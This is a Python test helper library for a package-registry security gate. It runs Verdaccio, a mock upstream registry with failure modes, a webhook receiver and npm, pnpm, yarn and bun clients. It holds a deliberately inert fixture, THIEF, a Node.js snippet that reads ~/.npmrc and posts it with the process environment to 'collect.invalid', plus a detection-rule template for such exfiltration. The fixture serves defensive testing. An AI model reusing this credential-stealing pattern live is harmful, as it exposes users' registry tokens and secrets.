"""gatelib.py - a registry (Verdaccio), a gate before it, and package managers as its clients."""
import base64
import contextlib
import gzip
import hashlib
import http.client
import http.server
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

from tap import QANAT, package, tgz_of

TESTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
VERDACCIO = os.path.join(TESTS, "gate", "node_modules", "verdaccio", "bin", "verdaccio")
MANAGERS = os.path.join(TESTS, "inventory", "node_modules")
YARN1, YARN4, PNPM, BUN = ("yarn1", "bin/yarn.js"), ("yarn4", "bin/yarn.js"), ("pnpm10", "bin/pnpm.cjs"), "bun1.3"
PATIENCE = 4 if "asan" in os.path.basename(os.path.dirname(QANAT)) else 1

# Inert: the host does not exist, and the first line ends the script.
THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
         "const fs = require('fs'), os = require('os'), https = require('https');\n"
         "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
         "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
         "r.write(t + JSON.stringify(process.env)); r.end();\n")

# A rule: about %s, that a package calls %s.invalid.
RULE = """rules:
- id: calls-%s
  title: Calls a host of thieves
  severity: critical
  verdict: malicious
  phase: any
  tactics: [T1041]
  when: {event: net.connect, host: %s.invalid}
  explain: It calls a host that belongs to thieves.
  advice: Do not use it.
"""

ALLOW_YOUNG = "minimum-age: { default: 0, undated: allow }\n"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Reply:
    def __init__(self, r):
        self.status, self.headers, self.body = r.status, r.headers, r.read()

    @property
    def text(self):
        data = self.body
        if self.headers.get("content-encoding") == "gzip":
            data = gzip.decompress(data)
        return data.decode(errors="replace")

    @property
    def json(self):
        return json.loads(self.text)

    def __repr__(self):
        return f"{self.status}\n{self.headers}\n{self.text[:1500]}"


def ask(base, path, method="GET", body=None, headers=None, timeout=120):
    """One request with the path exactly as given."""
    u = urllib.parse.urlsplit(base)
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=timeout)
    try:
        c.request(method, u.path.rstrip("/") + path, body=body, headers=headers or {}, encode_chunked="transfer-encoding" in (headers or {}))
        return Reply(c.getresponse())
    finally:
        c.close()


class Verdaccio:
    def __init__(self, d):
        self.dir, self.port = os.path.join(d, "verdaccio"), free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        os.makedirs(self.dir)
        with open(f"{self.dir}/config.yaml", "w", encoding="ascii") as f:
            f.write("storage: ./storage\nauth: { htpasswd: { file: ./htpasswd, max_users: 100 } }\nuplinks: {}\nweb: { enable: false }\n"
                    "max_body_size: 200mb\n"
                    "packages: { '**': { access: $all, publish: $authenticated, unpublish: $authenticated } }\n"
                    "log: { type: stdout, format: json, level: error }\n")
        self.start()
        reply = ask(self.url, "/-/user/org.couchdb.user:tester", "PUT", json.dumps({"name": "tester", "password": "a-test-word"}),
                    {"content-type": "application/json"})
        self.token = reply.json["token"]
        self.tarballs = {}

    def start(self):
        self.process = subprocess.Popen(["node", VERDACCIO, "--config", f"{self.dir}/config.yaml", "--listen", self.url],
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        wait_for(lambda: ask(self.url, "/-/ping").status == 200)

    def stop(self):
        self.process.kill()
        self.process.wait()

    def publish(self, name, version, files=None, tag="latest", **more):
        files = {"package.json": package(name, version, **more), "index.js": f"module.exports = '{version}';\n", **(files or {})}
        data = tgz_of(files)
        base = name.split("/")[-1]
        file = f"{base}-{version}.tgz"
        manifest = json.loads(files["package.json"])
        manifest.update(_id=f"{name}@{version}", dist={
            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
            "shasum": hashlib.sha1(data).hexdigest(), "tarball": f"{self.url}/{name}/-/{file}"})
        doc = {"_id": name, "name": name, "dist-tags": {tag: version}, "versions": {version: manifest},
               "_attachments": {file: {"content_type": "application/octet-stream", "data": base64.b64encode(data).decode(),
                                       "length": len(data)}}}
        r = ask(self.url, "/" + name.replace("/", "%2f"), "PUT", json.dumps(doc),
                {"content-type": "application/json", "authorization": f"Bearer {self.token}"})
        assert r.status in (200, 201), r
        self.tarballs[name, version] = data
        return data


def wait_for(ready, seconds=60):
    end = time.time() + seconds
    while True:
        try:
            if ready():
                return
        except OSError:
            pass
        assert time.time() < end, "it does not get ready"
        time.sleep(0.05)


def sri(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


class Upstream:
    """A registry in all moods; packages[name][version] = tarball, mood[path] = what it does there."""

    def __init__(self):
        self.packages, self.mood, self.hits, self.down = {}, {}, [], False
        self.times = {}
        self.more, self.headers, self.prefix = {}, [], ""  # more[name][version]: what its manifest has besides
        up = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def send(self, code, body, kind="application/json", claim=None):
                self.send_response(code)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(claim or len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                path = self.path.replace("%2f", "/").replace("%2F", "/").lstrip("/")
                if not path.startswith(up.prefix):
                    up.hits.append("outside: " + path)
                    return self.send(404, b"{}")
                path = path[len(up.prefix):].lstrip("/")
                up.hits.append(path)
                up.headers.append((path, dict(self.headers)))
                mood = up.mood.get(path, "well")
                if up.down:
                    self.close_connection = True
                    return self.connection.shutdown(socket.SHUT_RDWR)
                if callable(mood):
                    return mood(self)
                if mood == "500":
                    return self.send(500, b"{}")
                if mood == "slow":
                    time.sleep(3)
                if "/-/" in path:
                    name, file = path.split("/-/")
                    data = up.packages.get(name, {}).get(file[len(name.split("/")[-1]) + 1 : -4])
                    if mood == "other":
                        data = tgz_of({"package.json": package(name, "1.0.0"), "x.js": "1"})
                    if mood == "cut":
                        self.send(200, data[: len(data) // 2], "application/octet-stream", len(data))
                        self.close_connection = True
                        return None
                    return self.send(200, data, "application/octet-stream") if data else self.send(404, b"{}")
                if path not in up.packages:
                    return self.send(404, b"{}")
                return self.send(200, json.dumps(up.document(path)).encode())

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def add(self, name, version="1.0.0", files=None):
        data = tgz_of({"package.json": package(name, version), "index.js": f"module.exports = '{name}';\n", **(files or {})})
        self.packages.setdefault(name, {})[version] = data
        return data

    def redirect(self, path, to):
        """Whoever asks for path is sent elsewhere."""
        def answer(h):
            h.send_response(302)
            h.send_header("location", to)
            h.send_header("content-length", "0")
            h.end_headers()

        self.mood[path] = answer

    def document(self, name, **more):
        base = name.split("/")[-1]
        versions = {v: {"name": name, "version": v, "dist": {"integrity": sri(d), "tarball": f"{self.url}/{name}/-/{base}-{v}.tgz"},
                        **self.more.get(name, {}).get(v, {})}
                    for v, d in self.packages[name].items()}
        return {"_id": name, "name": name, "dist-tags": {"latest": list(versions)[-1]}, "versions": versions,
                "time": {v: self.times.get((name, v), "2020-01-01T00:00:00.000Z") for v in versions}, **more}


def parent_is(pid, parent):
    try:
        with open(f"/proc/{pid}/stat", encoding="utf-8", errors="replace") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1]) == parent
    except (OSError, IndexError, ValueError):
        return False


def name_of(pid):
    try:
        with open(f"/proc/{pid}/comm", encoding="utf-8") as f:
            return f.read().strip()
    except OSError:
        return ""


class Gate:
    """qanat gate on a port of its own; .url, .log()."""

    def __init__(self, d, upstream=None, policy=ALLOW_YOUNG, service=None, args=(), state=None, env=None, program=QANAT):
        self.dir = state or os.path.join(d, f"gate{time.time_ns()}")
        os.makedirs(self.dir, exist_ok=True)
        self.state, self.cache = f"{self.dir}/state", f"{self.dir}/cache"
        self.set_policy(policy)
        self.program = program
        self.args = ["gate", "--state", self.state, "--cache", self.cache, "--policy", f"{self.dir}/policy.yaml", *args]
        if "--listen" not in args and not (service and "listen:" in service):
            self.args += ["--listen", "127.0.0.1:0"]
        if upstream:
            self.args += ["--registry", upstream]
        if service:
            with open(f"{self.dir}/gate.yaml", "w", encoding="utf-8") as f:
                f.write(service)
            self.args += ["--service", f"{self.dir}/gate.yaml"]
        self.env = dict(os.environ, **(env or {}))
        self.start()

    def set_policy(self, policy):
        with open(f"{self.dir}/policy.yaml", "w", encoding="utf-8") as f:
            f.write(policy)

    def start(self):
        self.errors = open(f"{self.dir}/log", "ab")
        self.from_byte = os.path.getsize(f"{self.dir}/log")
        self.process = subprocess.Popen([self.program, *self.args], stdout=subprocess.DEVNULL, stderr=self.errors, env=self.env)
        wait_for(lambda: b"listening on" in self.log(True) or self.process.poll() is not None)
        assert self.process.poll() is None, self.log()
        self.address = re.search(rb"listening on (\S+)", self.log(True)).group(1).decode()
        self.url = f"http://{self.address}"
        wait_for(lambda: ask(self.url, "/-/gate/ready").status in (200, 404))  # 404: below a path

    def log(self, now=False):
        with open(f"{self.dir}/log", "rb") as f:
            f.seek(self.from_byte if now else 0)
            return f.read()

    def ask(self, path, *args, **kw):
        return ask(self.url, path, *args, **kw)

    def reload(self):
        n = self.log().count(b"reloaded")
        self.process.send_signal(signal.SIGHUP)
        wait_for(lambda: self.log().count(b"reloaded") > n)

    def stop(self, sig=signal.SIGTERM):
        if self.process.poll() is None:
            self.process.send_signal(sig)
        code = self.process.wait(60)
        self.errors.close()
        return code

    def roles(self, name="analyse"):
        return [int(p) for p in os.listdir("/proc") if p.isdigit() and parent_is(p, self.process.pid) and name_of(p) == name]

    def ledger(self, *args):
        r = subprocess.run([QANAT, "gate", "ledger", "--state", self.state, "--format", "json", *args], capture_output=True, check=False)
        return json.loads(r.stdout)


@contextlib.contextmanager
def stopped(pids):
    for p in pids:
        os.kill(p, signal.SIGSTOP)
    try:
        yield
    finally:
        for p in pids:
            os.kill(p, signal.SIGCONT)


class Receiver:
    """Takes what a webhook is sent."""

    def __init__(self):
        self.got = []
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_POST(self):
                body = self.rfile.read(int(self.headers["content-length"]))
                receiver.got.append((dict(self.headers), body))
                self.send_response(204)
                self.end_headers()

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"


class Client:
    """A directory with a project, and package managers that ask one registry from it."""

    def __init__(self, d, name, url, dependencies=None):
        self.dir, self.url, self.home = os.path.join(d, name), url, os.path.join(d, name + "-home")
        os.makedirs(self.dir)
        os.makedirs(self.home)
        self.set(dependencies or {})

    def set(self, dependencies, **more):
        with open(f"{self.dir}/package.json", "w", encoding="utf-8") as f:
            f.write(package("project", "1.0.0", private=True, dependencies=dependencies, **more))

    def run(self, *args, timeout=300, without=(), **extra):
        env = {k: v for k, v in os.environ.items() if not k.lower().startswith(("npm_", "yarn_", "pnpm_", "bun_"))}
        env.update(HOME=self.home, XDG_CACHE_HOME=f"{self.home}/c", XDG_DATA_HOME=f"{self.home}/d", XDG_CONFIG_HOME=f"{self.home}/e",
                   npm_config_registry=self.url + "/", npm_config_cache=f"{self.home}/npm", npm_config_audit="false",
                   npm_config_fund="false", npm_config_update_notifier="false", npm_config_fetch_retries="0",
                   npm_config_ignore_scripts="true", YARN_ENABLE_SCRIPTS="false", YARN_ENABLE_TELEMETRY="0",
                   YARN_CACHE_FOLDER=f"{self.home}/yarn", YARN_GLOBAL_FOLDER=f"{self.home}/yarng", YARN_NODE_LINKER="node-modules",
                   YARN_NPM_REGISTRY_SERVER=self.url, YARN_UNSAFE_HTTP_WHITELIST="127.0.0.1", YARN_HTTP_RETRY="0",
                   YARN_ENABLE_IMMUTABLE_INSTALLS="false", YARN_REGISTRY=self.url, BUN_CONFIG_REGISTRY=self.url,
                   BUN_INSTALL_CACHE_DIR=f"{self.home}/bun", NODE_OPTIONS="", CI="1", **extra)
        env = {k: v for k, v in env.items() if not any(w in k.lower() for w in without)}
        p = subprocess.run(args, cwd=self.dir, env=env, capture_output=True, text=True, timeout=timeout, check=False)
        p.all = p.stdout + p.stderr
        return p

    def npm(self, *args, version=None, **kw):
        cli = ["npm"] if version is None else ["node", os.path.join(MANAGERS, f"npm{version}", "bin", "npm-cli.js")]
        return self.run(*cli, *args, **kw)

    def node(self, tool, path, *args, **kw):
        return self.run("node", os.path.join(MANAGERS, tool, path), *args, **kw)

    def clean(self):
        for x in ("node_modules", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "bun.lockb"):
            p = os.path.join(self.dir, x)
            shutil.rmtree(p) if os.path.isdir(p) else os.path.exists(p) and os.remove(p)
        shutil.rmtree(self.home)
        os.makedirs(self.home)

    def version(self, name):
        try:
            with open(f"{self.dir}/node_modules/{name}/package.json", encoding="utf-8") as f:
                return json.load(f)["version"]
        except OSError:
            return None


def clients_of(d, g):
    """name, install, install what the lock file says, project."""
    c = {n: Client(d, f"{n}-{g.address.rsplit(':')[-1]}", g.url) for n in ("npm", "npm8", "pnpm", "yarn1", "yarn4", "bun")}
    bun = os.path.join(MANAGERS, BUN, "bin", "bun")
    out = [("npm", c["npm"], lambda p: p.npm("install"), lambda p: p.npm("ci")),
           ("npm 8", c["npm8"], lambda p: p.npm("install", version=8), lambda p: p.npm("ci", version=8)),
           ("pnpm", c["pnpm"], lambda p: p.node(*PNPM, "install", "--no-frozen-lockfile"), lambda p: p.node(*PNPM, "install", "--frozen-lockfile")),
           ("yarn classic", c["yarn1"], lambda p: p.node(*YARN1, "install", "--non-interactive"),
            lambda p: p.node(*YARN1, "install", "--non-interactive", "--frozen-lockfile")),
           ("yarn", c["yarn4"], lambda p: p.node(*YARN4, "install"), lambda p: p.node(*YARN4, "install", "--immutable"))]
    if os.path.exists(bun):
        out.append(("bun", c["bun"], lambda p: p.run(bun, "install"), lambda p: p.run(bun, "install", "--frozen-lockfile")))
    return out


def needs():
    """Ends the test program when what it needs is not installed."""
    if not os.path.exists(VERDACCIO):
        print("1..0 # SKIP Verdaccio is not installed (tools/setup)")
        sys.exit(0)
